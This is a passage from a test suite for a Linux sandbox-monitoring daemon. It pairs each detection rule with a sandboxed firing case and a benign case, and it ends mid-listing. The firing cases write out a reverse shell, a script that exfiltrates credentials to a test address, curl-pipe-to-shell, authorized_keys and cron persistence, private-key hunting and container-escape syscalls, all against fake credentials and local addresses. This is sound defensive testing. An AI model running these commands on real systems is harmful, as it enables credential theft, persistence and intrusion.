"""Every shipped rule (rules/*.yaml, built into vigil), end to end: one
real behaviour inside a real sandbox that fires it, and one benign
neighbour that must not (issue #4).

One `vigil daemon --rules builtin` serves the whole module; each case
runs in a sandbox of its own, so scores, taints and windows never mix.
A firing case waits for the rule's alert (and its action, where the
rule acts or its score crosses a threshold); a benign case runs to a
clean exit and must raise no alert but those it names. The last test
stops the daemon and checks that no benign sandbox alerted late (flow
records come after the process is gone). A meta-test fails when a
shipped rule has no firing or no benign case.

Nothing real is read: the agent is a throwaway user created here, whose
home (under /var/lib) holds fake credentials; the only real files
opened are /etc/shadow (by root, in the case where the kernel kills the
opener inside open(), and the program never reads), /etc/passwd and
world-readable system directories. Network traffic stays on loopback or
inside a network namespace this module creates, where 198.18.0.1 (an
"unknown" destination), 198.18.0.53 (a resolver) and the cloud metadata
addresses are local addresses of its loopback device: no packet leaves
the machine. System directories that a persistence case writes are
tmpfs mounts in a private mount namespace of that case's process. The
escape case opens the cgroup2 root's cgroup.procs as root to write its
pid there; the kernel kills it inside open(), and had it not, the case's
shell would have exited by itself, leaving nothing behind.
"""

import ctypes
import dataclasses
import functools
import hashlib
import http.server
import itertools
import os
import pwd
import shutil
import signal
import socket
import subprocess
import tempfile
import textwrap
import threading
import zipfile
from pathlib import Path
from typing import Callable, Optional

import pytest
import yaml

import conftest
from conftest import (REPO, Vigil, _destroy_tree, cgroup2_mount, fmt_records,
                      join_cgroup, make_sandbox, pid_of, remove_pins)
from policy_support import PY, Acceptor, Datagrams, by_seq

BUILTIN = ["--rules", "builtin"]
SIGKILL = -signal.SIGKILL

# ------------------------------------------------------------ rule files


def shipped_items():
    """Every item of every shipped rule file (what the binary embeds)."""
    items = []
    for path in sorted((REPO / "rules").glob("*.yaml")):
        items += yaml.safe_load(path.read_text()) or []
    return items


def shipped_rules():
    return {i["rule"]: i for i in shipped_items() if "rule" in i}


# ------------------------------------------------------------ namespaces

_libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS = 0x00020000
CLONE_NEWNET = 0x40000000
MS_REC = 0x4000
MS_PRIVATE = 1 << 18


def _check(ret, what):
    if ret != 0:
        e = ctypes.get_errno()
        raise OSError(e, f"{what}: {os.strerror(e)}")


def _setns(fd, nstype):
    _check(_libc.setns(fd, nstype), "setns")


def _private_tmpfs(targets):
    """In the calling (forked) process: a mount namespace of its own,
    every mount private (so nothing propagates back to the host), then a
    tmpfs over each target."""
    _check(_libc.unshare(CLONE_NEWNS), "unshare(CLONE_NEWNS)")
    _check(_libc.mount(b"none", b"/", None, MS_REC | MS_PRIVATE, None),
           "mount --make-rprivate /")
    for t in targets:
        _check(_libc.mount(b"tmpfs", t.encode(), b"tmpfs", 0, b"mode=0755"),
               f"mount tmpfs {t}")


def in_netns(nsname, fn):
    """Runs fn() on a thread that entered network namespace nsname (a
    thread's own: the rest of the test process stays where it is); the
    sockets it makes live in that namespace. Returns fn's result."""
    out = {}

    def run():
        fd = os.open(f"/run/netns/{nsname}", os.O_RDONLY)
        try:
            _setns(fd, CLONE_NEWNET)
            out["v"] = fn()
        except BaseException as e:  # re-raised on the caller's thread
            out["e"] = e
        finally:
            os.close(fd)

    t = threading.Thread(target=run)
    t.start()
    t.join()
    if "e" in out:
        raise out["e"]
    return out["v"]


# ------------------------------------------------------------ listeners


def _dual_stack(kind, port):
    s = socket.socket(socket.AF_INET6, kind)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("::", port))
    if kind == socket.SOCK_STREAM:
        s.listen(64)
    return s


class _QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, fmt, *args):
        pass


# ------------------------------------------------------------ the wheel

PKG, PKG_VERSION = "vigiltoy", "1.0.0"


def _record_hash(data):
    import base64
    digest = hashlib.sha256(data).digest()
    return "sha256=" + base64.urlsafe_b64encode(digest).rstrip(b"=").decode()


def write_index(root):
    """A PEP 503 index of one hand-written pure-Python wheel under
    root/simple (nothing built, nothing fetched)."""
    dist = f"{PKG}-{PKG_VERSION}.dist-info"
    files = {
        f"{PKG}/__init__.py": "def slugify(t):\n"
                              "    return '-'.join(t.lower().split())\n",
        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: {PKG}\n"
                            f"Version: {PKG_VERSION}\n",
        f"{dist}/WHEEL": "Wheel-Version: 1.0\nGenerator: vigil-tests\n"
                         "Root-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = [f"{n},{_record_hash(t.encode())},{len(t.encode())}"
              for n, t in files.items()] + [f"{dist}/RECORD,,"]
    files[f"{dist}/RECORD"] = "\n".join(record) + "\n"
    wheel = f"{PKG}-{PKG_VERSION}-py3-none-any.whl"
    os.makedirs(root / "packages")
    with zipfile.ZipFile(root / "packages" / wheel, "w") as z:
        for n, t in files.items():
            z.writestr(n, t)
    sha = hashlib.sha256((root / "packages" / wheel).read_bytes()).hexdigest()
    os.makedirs(root / "simple" / PKG)
    (root / "simple" / "index.html").write_text(
        f'<html><body><a href="{PKG}/">{PKG}</a></body></html>\n')
    (root / "simple" / PKG / "index.html").write_text(
        f'<html><body><a href="../../packages/{wheel}#sha256={sha}">'
        f'{wheel}</a></body></html>\n')


# ------------------------------------------------------------ the agent

FAKE = "FAKE-FOR-VIGIL-TESTS"

# The throwaway agent's home: fake credentials at their real names.
HOME_FILES = {
    ".ssh/id_rsa": f"-----BEGIN OPENSSH PRIVATE KEY-----\n{FAKE}\n"
                   "-----END OPENSSH PRIVATE KEY-----\n",
    ".ssh/id_rsa.pub": f"ssh-ed25519 AAAAC3Nza{FAKE} agent@sandbox\n",
    ".ssh/known_hosts": f"git.example.com ssh-ed25519 AAAAC3Nza{FAKE}\n",
    ".ssh/config": "Host *\n    ServerAliveInterval 30\n",
    ".ssh/authorized_keys": f"ssh-ed25519 AAAAC3Nza{FAKE} owner@laptop\n",
    ".aws/credentials": f"[default]\naws_access_key_id = AKIA{FAKE}\n",
    ".aws/config": "[default]\nregion = eu-west-1\n",
    ".netrc": f"machine 127.0.0.1 login agent password {FAKE}\n",
    ".npmrc": f"registry=http://127.0.0.1:9/\n"
              f"//127.0.0.1:9/:_authToken=npm_{FAKE}\n"
              "audit=false\nfund=false\nupdate-notifier=false\n",
    ".git-credentials": f"https://agent:{FAKE}@127.0.0.1\n",
    ".pypirc": f"[pypi]\nusername = __token__\npassword = pypi-{FAKE}\n",
    ".config/pip/pip.conf": "[global]\ndisable-pip-version-check = true\n"
                            "no-cache-dir = true\n",
    ".mozilla/firefox/profiles.ini": "[Profile0]\nName=default\n"
                                     "Path=vt.default-release\n",
    ".mozilla/firefox/vt.default-release/logins.json":
        f'{{"logins": [{{"encryptedPassword": "{FAKE}"}}]}}\n',
    ".mozilla/firefox/vt.default-release/key4.db": f"{FAKE}\n",
    ".mozilla/firefox/vt.default-release/cookies.sqlite": f"{FAKE}\n",
    ".config/google-chrome/Default/Login Data": f"{FAKE}\n",
    ".config/google-chrome/Default/Cookies": f"{FAKE}\n",
    ".config/google-chrome/Default/Preferences": '{"browser": {}}\n',
    ".bashrc": "# the agent's bashrc\nalias ll='ls -l'\n",
    ".profile": "# the agent's profile\n",
    **{f".config/sweep/f{i:02d}": "x\n" for i in range(60)},
    **{f".cache/vigil-bench/c{i:02d}": "x\n" for i in range(60)},
    **{f"projects/notes/n{i:02d}.txt": "x\n" for i in range(60)},
}

# A project file of the workspace, with a name like a credential's.
WORK_FILES = {
    "config/credentials.example": "aws_access_key_id = <yours>\n",
    "src/hello.c": "#include <stdio.h>\nint main(void)\n{\n"
                   "\tputs(\"hello\");\n\treturn 0;\n}\n",
}


@dataclasses.dataclass
class Env:
    base: Path
    home: Path
    work: Path
    user: str
    uid: int
    gid: int
    netns: str
    vars: dict


def _chown_tree(path, uid, gid):
    for d, dirs, files in os.walk(path):
        os.chown(d, uid, gid)
        for f in files:
            os.chown(os.path.join(d, f), uid, gid, follow_symlinks=False)


def _unique_dir(prefix, mode=0o755):
    for n in itertools.count():
        path = f"{prefix}-{n}"
        try:
            os.mkdir(path, mode)
            os.chmod(path, mode)
            return Path(path)
        except FileExistsError:
            continue


@pytest.fixture(scope="module")
def env():
    """The agent user, its fake home and workspace, the loopback and
    namespace listeners, and an outside process whose environment a case
    reads. All made before the daemon starts (file sets are resolved at
    load) and removed after."""
    pid = os.getpid()
    cleanup = []
    try:
        base = _unique_dir(f"/var/lib/vigil-test-{pid}-shipped")
        cleanup.append(lambda: shutil.rmtree(base, ignore_errors=True))
        home, work = base / "home", base / "work"
        user = f"vigilt{pid}"
        subprocess.run(["useradd", "--system", "--user-group",
                        "--no-create-home", "--home-dir", str(home),
                        "--shell", "/bin/sh", user], check=True)
        cleanup.append(lambda: subprocess.run(["userdel", user]))
        pw = pwd.getpwnam(user)
        uid, gid = pw.pw_uid, pw.pw_gid

        for rel, text in HOME_FILES.items():
            p = home / rel
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_text(text)
        for rel, text in WORK_FILES.items():
            p = work / rel
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_text(text)
        (work / "run").mkdir()
        _chown_tree(base, uid, gid)
        os.chmod(home, 0o700)
        os.chmod(home / ".ssh", 0o700)
        for secret in (".ssh/id_rsa", ".netrc", ".aws/credentials"):
            os.chmod(home / secret, 0o600)

        # The key under an innocent name, by hard link, outside ~/.ssh.
        links = base / "links"
        links.mkdir()
        os.link(home / ".ssh/id_rsa", links / "notes.txt")
        os.chmod(links, 0o755)
        # A network tool (a copy of true(1) under netcat's name) and a
        # second workspace, under /tmp as many agents' are.
        (base / "tools").mkdir(mode=0o755)
        shutil.copy("/bin/true", base / "tools" / "ncat")
        tmp = _unique_dir(f"/tmp/vigil-test-{pid}-shipped")
        cleanup.append(lambda: shutil.rmtree(tmp, ignore_errors=True))
        os.chown(tmp, uid, gid)

        # Loopback services of the host's network namespace.
        www = base / "www"
        www.mkdir()
        (www / "install.sh").write_text("echo installed-by-pipe\n")
        (www / "data.json").write_text('{"ok": true}\n')
        (www / "tool.sh").write_text("#!/bin/sh\nexit 0\n")
        write_index(www)
        httpd = http.server.ThreadingHTTPServer(
            ("127.0.0.1", 0),
            functools.partial(_QuietHandler, directory=str(www)))
        httpd.daemon_threads = True
        threading.Thread(target=httpd.serve_forever,
                         kwargs={"poll_interval": 0.1}, daemon=True).start()
        cleanup.append(lambda: (httpd.shutdown(), httpd.server_close()))
        http_url = f"http://127.0.0.1:{httpd.server_address[1]}"

        ls = socket.socket()
        ls.bind(("127.0.0.1", 0))
        ls.listen(8)
        rshell = Acceptor(ls, hold=True)
        cleanup.append(rshell.close)

        agent_dir = Path(tempfile.mkdtemp(prefix="ssh-vigiltest", dir="/tmp"))
        cleanup.append(lambda: shutil.rmtree(agent_dir, ignore_errors=True))
        os.chmod(agent_dir, 0o755)
        agent_sock = str(agent_dir / f"agent.{pid}")
        unix_servers = []
        for path in (agent_sock, str(work / "run" / "app.sock")):
            u = socket.socket(socket.AF_UNIX)
            u.bind(path)
            os.chmod(path, 0o777)
            u.listen(8)
            unix_servers.append(Acceptor(u))
        cleanup += [u.close for u in unix_servers]

        # The network namespace: an unknown destination, a resolver and
        # the metadata service, all local addresses of its loopback.
        netns = f"vigil-t-{pid}"
        subprocess.run(["ip", "netns", "add", netns], check=True)
        cleanup.append(lambda: subprocess.run(["ip", "netns", "del", netns]))
        ipn = ["ip", "-n", netns]
        subprocess.run(ipn + ["link", "set", "lo", "up"], check=True)
        for a in ("198.18.0.1/32", "198.18.0.53/32", "169.254.169.254/32"):
            subprocess.run(ipn + ["addr", "add", a, "dev", "lo"], check=True)
        subprocess.run(ipn + ["-6", "addr", "add", "fd00:ec2::254/128",
                              "dev", "lo", "nodad"], check=True)
        tcp = in_netns(netns, lambda: _dual_stack(socket.SOCK_STREAM, 80))
        ns_sink = Acceptor(tcp)
        cleanup.append(ns_sink.close)
        udp = in_netns(netns, lambda: _dual_stack(socket.SOCK_DGRAM, 53))
        ns_dns = Datagrams(udp)
        cleanup.append(ns_dns.close)

        # A process outside every sandbox, as the agent user, with a
        # (fake) token in its environment.
        def as_agent():
            os.setgroups([])
            os.setgid(gid)
            os.setuid(uid)
        outside = subprocess.Popen(
            ["/usr/bin/sleep", "3600"], preexec_fn=as_agent,
            stdin=subprocess.DEVNULL,
            env={"VIGIL_FAKE_TOKEN": FAKE, "PATH": "/usr/bin:/bin"})
        cleanup.append(lambda: (outside.kill(), outside.wait()))

        yield Env(base=base, home=home, work=work, user=user, uid=uid,
                  gid=gid, netns=netns, vars={
                      "WORK": str(work),
                      "HTTP": http_url,
                      "INDEX": f"{http_url}/simple/",
                      "RSHELL_PORT": str(ls.getsockname()[1]),
                      "AGENT_SOCK": agent_sock,
                      "APP_SOCK": str(work / "run" / "app.sock"),
                      "HARDLINK": str(links / "notes.txt"),
                      "TMPWORK": str(tmp),
                      "NCAT": str(base / "tools" / "ncat"),
                      "OUTSIDE_PID": str(outside.pid),
                      "DEST": "198.18.0.1",
                      "CG2": cgroup2_mount(),
                      "RESOLVER": "198.18.0.53",
                  })
    finally:
        problems = []
        for undo in reversed(cleanup):
            try:
                undo()
            except Exception as e:  # keep cleaning up
                problems.append(repr(e))
        if problems:
            pytest.fail("cleanup failed: " + "; ".join(problems),
                        pytrace=False)


# A profile with a small budget, for the budget rule (the default
# profile's 100 MiB would take long to spend and another rule kills
# before); everything else is the shipped rules' own.
TEST_PROFILES = """
- profile: small-budget
  description: the default profile's allowlist, with a 1 MiB budget
  egress: monitor
  allow:
    destinations: ["127.0.0.0/8", "::1"]
  egress_budget: 1MiB

# The default profile's allowlist, only judged: for the rules on what
# reaches a destination the default profile would refuse.
- profile: monitored
  description: the default profile's allowlist under egress monitor
  egress: monitor
  allow:
    destinations: ["127.0.0.0/8", "::1"]

# A sandbox whose floods are tolerated (sandbox-flood alerts, never adds
# up to a freeze), for a benign flood of any length.
- profile: bulk
  description: the default profile, sandbox-flood tuned to alert only
  allow:
    destinations: ["127.0.0.0/8", "::1"]
  rules:
    sandbox-flood: {score: 0}
"""


class Shipped:
    def __init__(self, env, v, root):
        self.env = env
        self.v = v
        self.root = root
        self.benign_ran = {}    # sandbox id -> case


@pytest.fixture(scope="module")
def shipped(env, vigil_bin, tmp_path_factory):
    """One daemon under the built-in rules (plus TEST_PROFILES) for the
    module, watching a sandbox root of its own."""
    work = tmp_path_factory.mktemp("shipped")
    profiles = work / "profiles.yaml"
    profiles.write_text(textwrap.dedent(TEST_PROFILES).lstrip())
    mount = cgroup2_mount()
    for n in itertools.count():
        root = os.path.join(mount, f"vigil-test-{os.getpid()}-s{n}")
        try:
            os.mkdir(root)
            break
        except FileExistsError:
            continue
    v = None
    try:
        v = Vigil(vigil_bin, [root], work, flow_interval=200,
                  extra_args=BUILTIN + ["--rules", str(profiles)])
        yield Shipped(env, v, root)
        if v.returncode is None:
            v.stop()
    finally:
        if v is not None and v.returncode is None:
            v.kill()
        problems = _destroy_tree(root) + remove_pins(root)
        if problems:
            pytest.fail("cgroup cleanup failed:\n" + "\n".join(problems),
                        pytrace=False)


# ------------------------------------------------------------ the cases


@dataclasses.dataclass
class Case:
    rule: str
    name: str
    argv: list                  # $VARS of Env.vars are in the environment
    user: str = "agent"         # or "root"
    netns: bool = False         # run inside the module's network namespace
    tmpfs: tuple = ()           # private tmpfs mounts over these
    profile: Optional[str] = None
    action: Optional[str] = None    # firing: the action expected
    kernel: Optional[str] = None    # firing: the file set (or syscall)
                                    # for which the kernel killed the
                                    # caller inside the syscall
    also: tuple = ()            # benign: other rules that may alert
    check: Optional[Callable] = None    # benign: proof it really ran
    stdout: Optional[str] = None    # benign: a line it must print
    timeout: float = 60


# Seconds of opens of paths that do not exist, each new.
FLOOD = ("import os, time\n"
         "end, n = time.time() + {seconds}, 0\n"
         "while time.time() < end:\n"
         "    for _ in range(1000):\n"
         "        n += 1\n"
         "        try: os.open(f\"/tmp/vigil-flood-{{n}}\", os.O_RDONLY)\n"
         "        except OSError: pass\n")


def sh(script):
    return ["/bin/sh", "-c", textwrap.dedent(script).strip()]


def py(code):
    return [PY, "-c", textwrap.dedent(code).strip()]


def opened(*suffixes, by=None):
    """check: some open record's path ends with each suffix."""
    def check(env, recs):
        paths = {(r["open"]["path"], r["proc"]["comm"]) for r in recs
                 if r["type"] == "open" and r["open"]["ret"] >= 0}
        for s in suffixes:
            assert any(p.endswith(s) and (by is None or c == by)
                       for p, c in paths), (s, by, sorted(paths)[:80])
    return check


def execed(*names):
    """check: each name was executed (base name of exec.file)."""
    def check(env, recs):
        got = {os.path.basename(r["exec"]["file"]) for r in recs
               if r["type"] == "exec" and r["exec"]["ret"] == 0}
        for n in names:
            assert n in got, (n, sorted(got))
    return check


def connected(port, family=None):
    def check(env, recs):
        assert any(r["type"] == "connect" and r["connect"]["port"] == port
                   and (family is None or r["connect"]["family"] == family)
                   for r in recs), f"no connect to port {port}"
    return check


def queried(qname):
    def check(env, recs):
        assert any(r["type"] == "dns" and r["dns"]["qname"] == qname
                   for r in recs), f"no dns record of {qname}"
    return check


def all_of(*checks):
    def check(env, recs):
        for c in checks:
            c(env, recs)
    return check


SEND = """
import os, socket, sys, time
addr, total = sys.argv[1], int(sys.argv[2])
s = socket.create_connection((addr, 80), timeout=30)
chunk = b"x" * 65536
sent = 0
while sent < total:
    s.sendall(chunk)
    sent += len(chunk)
print("sent", sent, flush=True)
time.sleep(float(sys.argv[3]))
"""

# Reads the (fake) AWS credentials, then sends them to ADDR:80.
EXFIL = """
import os, socket, sys, time
loot = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
s = socket.create_connection((sys.argv[1], 80), timeout=30)
s.sendall(loot)
s.close()
time.sleep(float(sys.argv[2]))
"""

DNS_QUERY = (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
             b"\x07example\x03com\x00\x00\x01\x00\x01")

# Sends a UDP query for each name in argv[1:] to 127.0.0.1:53, which the
# default profile allows: the kernel reads each, and drops it (EPERM to
# the sender) since the profile allows no name; nothing listens there.
QUERY = r"""
import socket, struct, sys
names = sys.argv[1:]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i, name in enumerate(names):
    q = struct.pack(">HHHHHH", i & 0xffff, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    try:
        s.sendto(q + b"\0\0\x10\0\x01", ("127.0.0.1", 53))
    except PermissionError:
        pass
"""

FIRE = [
    # ----------------------------------------------------- credentials
    Case("ssh-private-key-read", "key", kernel="ssh-private-keys",
         argv=py("""
        import os
        data = open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()
        print("returned", len(data), flush=True)
        """)),
    Case("ssh-private-key-read", "key-hardlink", kernel="ssh-private-keys",
         argv=py("""
        import os
        data = open(os.environ["HARDLINK"], "rb").read()
        print("returned", len(data), flush=True)
        """)),
    Case("ssh-known-hosts-read", "known-hosts",
         argv=sh("cat ~/.ssh/known_hosts > /dev/null")),
    Case("ssh-agent-socket-use", "agent-socket",
         argv=sh('SSH_AUTH_SOCK="$AGENT_SOCK" ssh-add -l || true')),
    Case("cloud-credentials-read", "aws",
         argv=sh("cat ~/.aws/credentials > /dev/null")),
    Case("token-file-read", "netrc", argv=sh("cat ~/.netrc > /dev/null")),
    Case("token-file-read", "npmrc-by-python", argv=py("""
        import os
        open(os.path.expanduser("~/.npmrc")).read()
        """)),
    Case("browser-credential-read", "firefox", argv=py("""
        import glob, os
        for p in glob.glob(os.path.expanduser(
                "~/.mozilla/firefox/*/logins.json")):
            open(p).read()
        """)),
    Case("browser-credential-read", "chrome", argv=sh(
        'cp ~/.config/google-chrome/Default/"Login Data" "$WORK/ld.db"')),
    Case("shadow-read", "shadow-root", user="root", kernel="shadow",
         argv=py("""
        import os
        fd = os.open("/etc/shadow", os.O_RDONLY)    # never read
        print("returned", flush=True)
        """)),
    Case("shadow-read", "shadow-attempt", argv=sh(
        "cat /etc/shadow > /dev/null 2>&1; sleep 30")),
    Case("proc-memory-read", "environ", argv=py("""
        import os
        open("/proc/%s/environ" % os.environ["OUTSIDE_PID"], "rb").read()
        """)),
    Case("proc-memory-read", "ps-environ", argv=sh("ps axeww > /dev/null")),
    Case("cloud-metadata-contact", "metadata", netns=True, argv=py("""
        import socket
        for addr in ("169.254.169.254", "fd00:ec2::254"):
            s = socket.create_connection((addr, 80), timeout=5)
            s.sendall(b"GET /latest/meta-data/iam/ HTTP/1.0\\r\\n\\r\\n")
            s.close()
        """)),
    Case("home-sweep", "dotfiles", argv=py("""
        import glob, os
        for p in sorted(glob.glob(os.path.expanduser("~/.config/sweep/*"))):
            open(p).read()
        """)),
    # ----------------------------------------------------------- egress
    Case("secret-then-egress", "aws-then-out", netns=True,
         argv=[PY, "-c", EXFIL, "198.18.0.1", "30"]),
    Case("egress-volume-unknown", "60mib-out", netns=True, profile="monitored",
         argv=[PY, "-c", SEND, "198.18.0.1", str(60 << 20), "30"]),
    Case("egress-budget-spent", "budget", netns=True, profile="small-budget",
         argv=[PY, "-c", SEND, "198.18.0.1", str(4 << 20), "30"]),
    Case("unknown-destination-connect", "connect-out", netns=True,
         argv=py("""
        import os, socket
        socket.create_connection((os.environ["DEST"], 80), timeout=5).close()
        """)),
    Case("dns-unknown-resolver", "dns-out", netns=True, argv=py(f"""
        import os, socket
        q = {DNS_QUERY!r}
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(q, (os.environ["RESOLVER"], 53))
        c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        c.connect((os.environ["RESOLVER"], 53))
        c.send(q)
        """)),
    Case("dns-tunnel-label", "base32-label", argv=[
        PY, "-c", QUERY,
        "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpi.t.exfil.test"]),
    Case("dns-tunnel-label", "long-label", argv=[
        PY, "-c", QUERY, "a" * 60 + ".t.exfil.test"]),
    Case("dns-tunnel-subdomains", "spread", argv=[
        PY, "-c", QUERY, *(f"c{i}.s.exfil.test" for i in range(200))]),
    Case("destination-sweep", "sweep", netns=True, argv=py("""
        import socket
        for i in range(2, 42):
            s = socket.socket()
            s.connect_ex(("127.0.0.%d" % i, 9))
            s.close()
        """)),
    Case("port-scan", "scan", netns=True, argv=py("""
        import socket
        for port in range(1000, 1150):
            s = socket.socket()
            s.connect_ex(("127.0.0.1", port))
            s.close()
        """)),
    # -------------------------------------------------------- execution
    Case("reverse-shell", "sh-over-tcp", argv=py("""
        import os, socket
        s = socket.create_connection(
            ("127.0.0.1", int(os.environ["RSHELL_PORT"])))
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        os.execv("/bin/sh", ["sh", "-i"])
        """)),
    Case("exec-from-temp", "shm-script", argv=sh("""
        f=/dev/shm/.vigil-$$
        printf '#!/bin/sh\\nexit 0\\n' > "$f" && chmod 700 "$f"
        "$f"; rm -f "$f"
        """)),
    Case("exec-from-temp", "memfd", argv=py("""
        import os
        fd = os.memfd_create("payload", 0)
        os.write(fd, open("/bin/true", "rb").read())
        os.execv("/proc/self/fd/%d" % fd, ["payload"])
        """)),
    Case("loader-env-on-exec", "ld-preload", argv=sh(
        "LD_PRELOAD=/lib/x86_64-linux-gnu/libm.so.6 /bin/true")),
    Case("loader-env-on-exec", "glibc-tunables", argv=sh(
        "GLIBC_TUNABLES=glibc.malloc.mxfast=0 /bin/true")),
    Case("drop-and-execute", "fetched-renamed-run", argv=sh("""
        curl -fsS -o "$WORK/dl.tmp" "$HTTP/tool.sh"
        mv "$WORK/dl.tmp" "$WORK/tool" && chmod +x "$WORK/tool"
        "$WORK/tool" > /dev/null
        """)),
    Case("drop-and-execute", "base64-decoded", argv=sh("""
        echo IyEvYmluL3NoCmV4aXQgMAo= | base64 -d > "$WORK/dec"
        chmod +x "$WORK/dec" && "$WORK/dec"
        """)),
    Case("network-tool-exec", "ncat", argv=sh('"$NCAT" -l 4444')),
    Case("download-and-execute", "curl-pipe-sh",
         argv=sh('curl -fsS "$HTTP/install.sh" | sh')),
    # ------------------------------------------------------ persistence
    Case("shell-rc-write", "bashrc", argv=sh(
        "echo 'export PROMPT_COMMAND=\"$HOME/.x\"' >> ~/.bashrc")),
    Case("authorized-keys-write", "authorized-keys", action="freeze",
         argv=sh(f"echo 'ssh-ed25519 AAAAC3Nza{FAKE} attacker' "
                 ">> ~/.ssh/authorized_keys")),
    Case("crontab-write", "spool-crontab", user="root", action="freeze",
         tmpfs=("/var/spool",), argv=sh("""
        mkdir -p /var/spool/cron/crontabs
        echo '* * * * * /bin/true' > /var/spool/cron/crontabs/root
        """)),
    Case("systemd-unit-write", "user-unit", action="freeze", argv=sh("""
        mkdir -p ~/.config/systemd/user
        printf '[Service]\\nExecStart=/bin/true\\n' \\
            > ~/.config/systemd/user/updater.service
        """)),
    Case("git-hook-write", "other-repo-hook", argv=sh("""
        git init -q ~/other-repo
        printf '#!/bin/sh\\necho hooked\\n' \\
            > ~/other-repo/.git/hooks/post-checkout
        """)),
    # ------------------------------------------------------------- host
    Case("host-escape-syscall", "setns", action="freeze", argv=py("""
        import ctypes
        ctypes.CDLL(None).setns(-1, 0)              # EBADF: an attempt
        """)),
    # A tmpfs of its own over /sys/fs/bpf: the host's pins stay untouched.
    Case("bpffs-tamper", "rm-pins", user="root", tmpfs=("/sys/fs/bpf",),
         argv=sh("""
        mkdir -p /sys/fs/bpf/vigil/x && rm -rf /sys/fs/bpf/vigil; sleep 30
        """)),
    Case("bpf-from-sandbox", "bpf", kernel="bpf", argv=py("""
        import ctypes
        ctypes.CDLL(None).syscall(321, 0, 0, 0)     # bpf(MAP_CREATE, NULL)
        print("returned", flush=True)
        """)),
    Case("host-probe-syscall", "unshare", argv=sh(
        "/usr/bin/unshare -U /bin/true || true")),
    Case("io-uring-evasion", "io-uring-setup", kernel="io_uring_setup",
         argv=py("""
        import ctypes
        params = ctypes.create_string_buffer(120)
        ctypes.CDLL(None).syscall(425, 8, params)   # io_uring_setup
        print("returned", flush=True)
        """)),
    # The kernel kills the shell inside open(): it never writes its pid.
    Case("sandbox-escape", "to-cgroup-root", user="root", kernel="open",
         argv=sh('echo $$ > "$CG2/cgroup.procs"; echo returned')),
    # ---------------------------------------------------------- evasion
    # Opens of new paths, as fast as three loops go, for longer than the
    # ring buffer takes to fill: nothing the kernel can count as repeats.
    Case("sandbox-flood", "open-flood", argv=sh(f"""
        for i in 1 2 3; do {PY} -c '{FLOOD.format(seconds=5)}' & done; wait
        """)),
    # --------------------------------------------------------- mutation
    # /root is a private tmpfs of the case: nothing lands in the host's.
    Case("system-dir-mutation", "root-home-drop", user="root",
         tmpfs=("/root",), argv=sh("""
        mkdir /root/.vigil-dropped
        """)),
    Case("system-dir-mutation", "rename-into-root", user="root",
         tmpfs=("/root",), argv=sh("""
        echo x > /root/staged
        cd /tmp && mv /root/staged ../root/.vigil-job
        """)),
    Case("setid-bit-set", "suid-copy", argv=sh("""
        cp /bin/true "$WORK/suid-tool" && chmod u+s "$WORK/suid-tool"
        """)),
    Case("listener-or-raw-socket", "bind-shell-port", argv=py("""
        import socket
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        s.listen(1)
        """)),
    Case("listener-or-raw-socket", "packet-sniffer", user="root", argv=py("""
        import socket
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        """)),
    Case("credential-hunting", "find-keys", argv=sh("""
        find ~ -name 'id_rsa*' > /dev/null
        """)),
    Case("credential-hunting", "grep-private-key", argv=sh("""
        grep -rl 'BEGIN OPENSSH PRIVATE KEY' ~ > /dev/null || true
        """)),
    Case("crypto-miner", "stratum-pool", argv=sh("""
        /bin/true -o stratum+tcp://198.18.0.1:3333 -u 4AwalletX -p x
        """)),
    Case("data-destruction", "shred", argv=sh("""
        echo x > "$WORK/junk" && shred -u "$WORK/junk"
        """)),
    Case("log-or-history-tamper", "history-removed", argv=sh("""
        echo ls >> ~/.bash_history && rm ~/.bash_history
        """)),
    Case("log-or-history-tamper", "history-to-devnull", argv=sh("""
        ln -sf /dev/null ~/.zsh_history
        """)),
    Case("user-management", "useradd", argv=sh("""
        useradd vigil-nobody-else 2>/dev/null || true
        """)),
    # A release_agent of a tmpfs of the case's own: nothing of the host's
    # is written. The sandbox is killed while the shell sleeps.
    Case("cgroup-release-agent-write", "release-agent", user="root",
         tmpfs=("/mnt",), argv=sh("""
        mkdir -p /mnt/cg && echo /tmp/x > /mnt/cg/release_agent; sleep 30
        """)),
    Case("credential-to-root", "root-regained", user="root", argv=py("""
        import os
        os.setresuid(1000, 1000, 0)     # dropped, saved uid kept
        os.setresuid(0, 0, 0)           # and taken back
        """)),
]

# A rule whose firing case cannot share the module's daemon, and the test
# that fires the shipped rule itself.
ELSEWHERE = {
    # The ring buffer full to the last byte: a stopped daemon.
    "kernel-kill-unseen":
        "test_flood.py::test_a_lost_kernel_kill_still_kills_its_sandbox",
}

BENIGN = [
    # ----------------------------------------------------- credentials
    Case("ssh-private-key-read", "public-key", argv=sh("""
        cat ~/.ssh/id_rsa.pub > /dev/null
        ls -la ~/.ssh > /dev/null
        stat ~/.ssh/id_rsa > /dev/null
        """), check=opened("/.ssh/id_rsa.pub")),
    Case("ssh-known-hosts-read", "ssh-config", argv=sh("""
        cat ~/.ssh/config > /dev/null
        test -f ~/.ssh/known_hosts
        ssh -G git.example.com > /dev/null
        echo "git2.example.com ssh-ed25519 AAAAC3NzaC1" >> ~/.ssh/known_hosts
        """), check=all_of(opened("/.ssh/config", "/.ssh/known_hosts"),
                           execed("ssh"))),
    Case("ssh-agent-socket-use", "app-socket", argv=py("""
        import os, socket
        s = socket.socket(socket.AF_UNIX)
